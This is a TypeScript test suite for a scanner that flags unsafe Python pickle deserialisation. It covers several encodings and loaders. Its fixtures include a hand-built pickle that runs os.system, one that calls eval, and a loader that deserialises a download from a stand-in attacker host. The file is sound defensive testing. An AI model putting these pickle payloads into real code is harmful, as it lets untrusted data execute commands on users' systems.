import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { checkText } from '../../../src/check.ts';
import { standard } from '../../../src/policy/presets/standard.ts';
import { scanned } from '../repository/scanned.ts';

const command = 'touch loadlock-was-here';
/** Opcodes of protocol 0, by hand: GLOBAL, MARK, STRING, TUPLE, REDUCE, STOP. */
const bad = `cos\nsystem\n(S'${command}'\ntR.`;
/** A dict with a list: EMPTY_DICT, a key, EMPTY_LIST, numbers, APPENDS, SETITEM. */
const plain = "}S'a'\n](I1\nI2\nes.";
/** `collections.OrderedDict()`, which builds nothing else. */
const ordered = 'ccollections\nOrderedDict\n(tR.';

const bytes = (text: string): string => `b${JSON.stringify(text)}`;
const base64 = (data: Uint8Array | string): string => JSON.stringify(Buffer.from(data).toString('base64'));

/** Ways to give a constant to something that makes objects of it. */
const ways: Readonly<Record<string, (text: string) => string>> = {
  'as it stands': (text) => `import pickle\nX = pickle.loads(${bytes(text)})\n`,
  'from an open file': (text) => `import pickle, io\nX = pickle.load(io.BytesIO(${bytes(text)}))\n`,
  'in base64': (text) => `import pickle, base64\nX = pickle.loads(base64.b64decode(${base64(text)}))\n`,
  'in hex': (text) =>
    `import pickle\nX = pickle.loads(bytes.fromhex("${Buffer.from(text).toString('hex')}"))\n`,
  compressed: (text) =>
    `import pickle, zlib, base64\nD = ${base64(deflateSync(text))}\nX = pickle.loads(zlib.decompress(base64.b64decode(D)))\n`,
  'by joblib': (text) => `import joblib\nfrom io import BytesIO\nX = joblib.load(BytesIO(${bytes(text)}))\n`,
  'by torch': (text) =>
    `import torch\nfrom io import BytesIO\nX = torch.load(BytesIO(${bytes(text)}), weights_only=False)\n`,
  'by dill': (text) => `import dill\nX = dill.loads(${bytes(text)})\n`,
  'in a function': (text) =>
    `import cloudpickle\ndef make():\n    return cloudpickle.loads(${bytes(text)})\n`,
};

async function rulesOf(source: string, context: 'repository' | 'generated'): Promise<[string, string[]]> {
  const report =
    context === 'generated'
      ? (await checkText({ text: source, name: 'x.py' }, { policy: standard })).targets[0]!.artifacts[0]!
      : (await scanned({ 'modeling_x.py': source })).get('modeling_x.py')!;
  return [report.decision, report.findings.map(({ rule, where }) => `${rule} ${where.member} ${where.line}`)];
}

test('a pickle in a constant is told by what it calls, at its line', async () => {
  for (const [way, write] of Object.entries(ways)) {
    const source = write(bad);
    const line = source.split('\n').findIndex((text) => /\.loads?\(/.test(text)) + 1;
    for (const context of ['repository', 'generated'] as const) {
      const [decision, rules] = await rulesOf(source, context);
      assert.equal(decision, 'deny', `${way}, ${context}`);
      assert(
        rules.some((rule) => /^dangerous-call \w+\.loads? /.test(rule) && rule.endsWith(` ${line}`)),
        `${way}: ${rules}`,
      );
      assert(!rules.some((rule) => rule.startsWith('data-deserialised')), `${way}: ${rules}`);
    }
  }
});

test('a constant that holds data alone, or what is known to be harmless, is data', async () => {
  for (const [way, write] of Object.entries(ways))
    for (const text of [plain, ordered])
      for (const context of ['repository', 'generated'] as const) {
        // That a safeguard is switched off is told of a program by itself.
        if (way === 'by torch' && context === 'generated') continue;
        const [decision, rules] = await rulesOf(write(text), context);
        assert.equal(decision, 'allow', `${way}, ${context}: ${rules}`);
      }
});

test('what is not known for sure is judged as before', async () => {
  const cases: readonly (readonly [string, 'allow' | 'review' | 'deny'])[] = [
    // Somebody moved to another place of it.
    [
      `import pickle, io\nf = io.BytesIO(${bytes(plain + bad)})\nf.seek(${plain.length})\nX = pickle.load(f)\n`,
      'review',
    ],
    ['import pickle\nX = pickle.load(open("x.pkl", "rb"))\n', 'review'],
    // Which of the two it is depends on the machine.
    [
      `import pickle, os\nX = pickle.loads(${bytes(plain)} if os.environ.get("A") else ${bytes(bad)})\n`,
      'deny',
    ],
    [
      'import pickle, requests\nX = pickle.loads(requests.get("https://attacker.example/").content)\n',
      'deny',
    ],
    // A class that nobody knows goes to a person where the source is imported, and is a fixture in a test.
    [`import pickle\nX = pickle.loads(${bytes('cmine\nThing\n(tR.')})\n`, 'review'],
    [`import pickle\ndef test():\n    return pickle.loads(${bytes('cmine\nThing\n(tR.')})\n`, 'allow'],
    // Nothing runs before it fails.
    ['import pickle\ntry:\n    pickle.loads(b"garbage")\nexcept Exception:\n    pass\n', 'allow'],
    [
      `import pickle\ntry:\n    pickle.loads(${bytes(bad.slice(0, -1))})\nexcept Exception:\n    pass\n`,
      'deny',
    ],
    // Data that is called is no data.
    [`import pickle\npickle.loads(${bytes('cbuiltins\neval\n.')})("1")\n`, 'deny'],
  ];
  for (const [source, expected] of cases)
    assert.equal((await rulesOf(source, 'repository'))[0], expected, source);
});
